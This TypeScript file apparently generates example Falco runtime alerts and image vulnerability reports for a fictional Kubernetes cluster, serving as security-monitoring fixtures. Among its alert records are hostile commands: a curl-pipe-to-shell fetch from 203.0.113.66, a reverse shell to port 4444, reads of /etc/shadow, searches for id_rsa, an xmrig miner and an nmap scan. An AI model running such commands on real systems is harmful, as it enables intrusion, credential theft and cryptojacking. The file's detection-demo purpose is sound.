import { alerts, type AlertSeries } from '../falco/alerts';
import { sensorHealth } from '../falco/sensorHealth';
import { vulnerabilityReport } from '../operator/vulnerabilityReport';
import type { ExampleReport } from '../report';
import { ago } from '../time';
import * as workloads from './workloads';

const { CLUSTER } = workloads;
const KUBERNETES_API = '10.96.0.1:443';
const SHELL = { executable: '/usr/bin/bash', command: 'bash' };
const app = { name: 'node', id: 1000 };

/** Somebody came in through a log message, looked round and stayed. */
const breakIn: AlertSeries[] = [
  {
    rule: 'Contact K8S API Server From Container',
    run: workloads.checkout,
    executable: '/opt/java/openjdk/bin/java',
    command: 'java -jar /app/checkout.jar',
    parent: 'containerd-shim',
    file: `10.42.3.17:39124->${KUBERNETES_API}`,
    first: ago(2, 1),
    times: 64,
    everywhere: true,
    every: 2400,
  },
  {
    rule: 'Run shell untrusted',
    run: workloads.checkout,
    executable: '/usr/bin/dash',
    command: 'sh -c curl -s http://203.0.113.66:8000/a | sh',
    parent: 'java',
    first: ago(0, 7, 12),
    times: 6,
    every: 40,
  },
  {
    rule: 'Drop and execute new binary in container',
    run: workloads.checkout,
    executable: '/tmp/.cache/ldr',
    command: 'ldr --quiet',
    parent: 'sh',
    first: ago(0, 7, 8),
  },
  {
    rule: 'Redirect STDOUT/STDIN to Network Connection in Container',
    run: workloads.checkout,
    executable: '/usr/bin/bash',
    command: 'bash -i',
    parent: 'ldr',
    file: '10.42.3.17:51544->203.0.113.66:4444',
    first: ago(0, 7, 7),
    times: 2,
    every: 90,
  },
  {
    rule: 'Read sensitive file untrusted',
    run: workloads.checkout,
    executable: '/usr/bin/cat',
    command: 'cat /etc/shadow',
    parent: 'bash',
    file: '/etc/shadow',
    first: ago(0, 7, 2),
    times: 4,
    every: 30,
  },
  {
    rule: 'Search Private Keys or Passwords',
    run: workloads.checkout,
    executable: '/usr/bin/find',
    command: 'find / -name id_rsa',
    parent: 'bash',
    first: ago(0, 6, 58),
    times: 2,
    every: 60,
  },
  {
    rule: 'Terminal shell in container',
    run: workloads.checkout,
    ...SHELL,
    parent: 'runc',
    terminal: true,
    first: ago(0, 5, 30),
    times: 3,
    every: 900,
  },
];

const restOfPayments: AlertSeries[] = [
  {
    rule: 'Contact EC2 Instance Metadata Service From Container',
    run: workloads.paymentGateway,
    executable: '/usr/local/bin/payment-gateway',
    command: 'payment-gateway --config /etc/gateway.yaml',
    parent: 'containerd-shim',
    user: { name: '<NA>', id: 10001 },
    file: '10.42.1.9:38100->169.254.169.254:80',
    first: ago(3, 2),
    times: 3,
    everywhere: true,
    every: 86_400,
  },
  {
    rule: 'Launch Package Management Process in Container',
    run: workloads.settlementBatch,
    executable: '/usr/bin/apt-get',
    command: 'apt-get install -y openssh-client',
    parent: 'sh',
    first: ago(6),
    times: 6,
  },
];

const shop: AlertSeries[] = [
  {
    rule: 'Contact K8S API Server From Container',
    run: workloads.cart,
    executable: '/usr/local/bin/node',
    command: 'node dist/index.js',
    parent: 'containerd-shim',
    user: app,
    file: `10.42.2.31:44186->${KUBERNETES_API}`,
    first: ago(5, 3),
    times: 18,
    everywhere: true,
    every: 21_600,
  },
  {
    rule: 'Clear Log Activities',
    run: workloads.cart,
    executable: '/bin/busybox',
    command: 'truncate -s 0 /app/logs/cart.log',
    parent: 'crond',
    user: app,
    file: '/app/logs/cart.log',
    first: ago(2, 10),
    times: 2,
    every: 86_400,
  },
  {
    rule: 'Terminal shell in container',
    run: workloads.storefront,
    executable: '/bin/busybox',
    command: 'sh',
    parent: 'runc',
    user: app,
    terminal: true,
    first: ago(0, 22, 5),
  },
  {
    rule: 'Launch Suspicious Network Tool in Container',
    run: workloads.storefront,
    executable: '/bin/busybox',
    command: 'nc -zv cart.cart.svc 8080',
    parent: 'sh',
    user: app,
    terminal: true,
    first: ago(0, 22, 3),
  },
  {
    rule: 'Packet socket created in container',
    run: workloads.searchApi,
    executable: '/usr/local/bin/search-api',
    command: 'search-api --listen :9090',
    parent: 'containerd-shim',
    user: { name: '<NA>', id: 65532 },
    first: ago(1, 19),
    times: 2,
    every: 50_000,
  },
];

const platform: AlertSeries[] = [
  {
    rule: 'Write below etc',
    run: workloads.ingressGateway,
    executable: '/usr/bin/dash',
    command: 'sh /docker-entrypoint.d/20-render.sh',
    parent: 'docker-entrypoi',
    file: '/etc/nginx/conf.d/default.conf',
    first: ago(4, 6),
    times: 9,
    everywhere: true,
    every: 30_000,
  },
  {
    rule: 'Launch Package Management Process in Container',
    run: workloads.imageBuilder,
    executable: '/usr/bin/apt-get',
    command: 'apt-get update',
    parent: 'buildkitd',
    first: ago(5, 8),
    times: 48,
    everywhere: true,
    every: 8400,
  },
  {
    rule: 'Mount Launched in Privileged Container',
    run: workloads.imageBuilder,
    executable: '/usr/bin/mount',
    command: 'mount -t overlay overlay /var/lib/builder/merged',
    parent: 'buildkitd',
    first: ago(5, 7),
    times: 22,
    everywhere: true,
    every: 18_000,
  },
  {
    rule: 'Drop and execute new binary in container',
    run: workloads.imageBuilder,
    executable: '/var/lib/builder/merged/usr/bin/npm',
    command: 'npm ci',
    parent: 'buildkitd',
    first: ago(5, 6),
    times: 14,
    everywhere: true,
    every: 26_000,
  },
];

const lastOfWishlist: AlertSeries[] = [
  {
    rule: 'Read sensitive file untrusted',
    run: workloads.wishlist,
    executable: '/usr/local/bin/node',
    command: 'node server.js',
    parent: 'containerd-shim',
    file: '/etc/shadow',
    first: ago(21, 6),
    times: 3,
    every: 7200,
  },
];

/** A bot that digs for coins. No team is known for it. */
const miner: AlertSeries[] = [
  {
    rule: 'Drop and execute new binary in container',
    run: workloads.hackdayBot,
    executable: '/tmp/xmrig',
    command: 'xmrig --donate-level 1 -o pool.example.org:3333',
    parent: 'python3.11',
    first: ago(1, 15),
  },
  {
    rule: 'Detect outbound connections to common miner pool ports',
    run: workloads.hackdayBot,
    executable: '/tmp/xmrig',
    command: 'xmrig --donate-level 1 -o pool.example.org:3333',
    parent: 'python3.11',
    file: '10.42.4.80:55010->198.51.100.23:3333',
    first: ago(1, 14, 59),
    times: 120,
    every: 1100,
  },
  {
    rule: 'Launch Suspicious Network Tool in Container',
    run: workloads.hackdayBot,
    executable: '/usr/bin/nmap',
    command: 'nmap -sT 10.42.0.0/16',
    parent: 'sh',
    first: ago(0, 11),
    times: 2,
    every: 600,
  },
];

/** What sensors and the operator saw in the cluster. */
export const runtime: ExampleReport[] = [
  alerts({
    file: 'runtime/wishlist.ndjson',
    components: ['wishlist'],
    cluster: CLUSTER,
    sender: 'falco',
    series: lastOfWishlist,
  }),
  alerts({
    file: 'runtime/platform.ndjson',
    components: ['ingress-gateway', 'image-builder'],
    cluster: CLUSTER,
    sender: 'falco',
    series: platform,
  }),
  alerts({
    file: 'runtime/shop.ndjson',
    components: ['cart', 'storefront', 'search-api'],
    cluster: CLUSTER,
    sender: 'falcosidekick',
    series: shop,
  }),
  alerts({
    file: 'runtime/payments.ndjson',
    components: ['checkout', 'payment-gateway', 'settlement-batch'],
    cluster: CLUSTER,
    sender: 'falcosidekick',
    series: [...breakIn, ...restOfPayments],
  }),
  alerts({
    file: 'runtime/sandbox.ndjson',
    components: [],
    cluster: CLUSTER,
    sender: 'falcosidekick',
    series: miner,
  }),
  sensorHealth({ file: 'runtime/sensor-health.ndjson', cluster: CLUSTER }),
  image('search-api', workloads.searchApi, { webhook: true }),
  // It was known to run before the build that mends it.
  {
    ...image('cart', workloads.cart, { at: ago(5, 4) }),
    file: 'runtime/cart-image-earlier.json',
  },
  image('cart', workloads.cart),
  image('checkout', workloads.checkout),
  image('feature-flags', workloads.featureFlags),
];

function image(
  component: string,
  run: typeof workloads.cart,
  { at = ago(0, 4), webhook }: { at?: Date; webhook?: boolean } = {},
): ExampleReport {
  return vulnerabilityReport({
    file: `runtime/${component}-image.json`,
    at,
    components: [component],
    cluster: CLUSTER,
    run,
    webhook,
  });
}
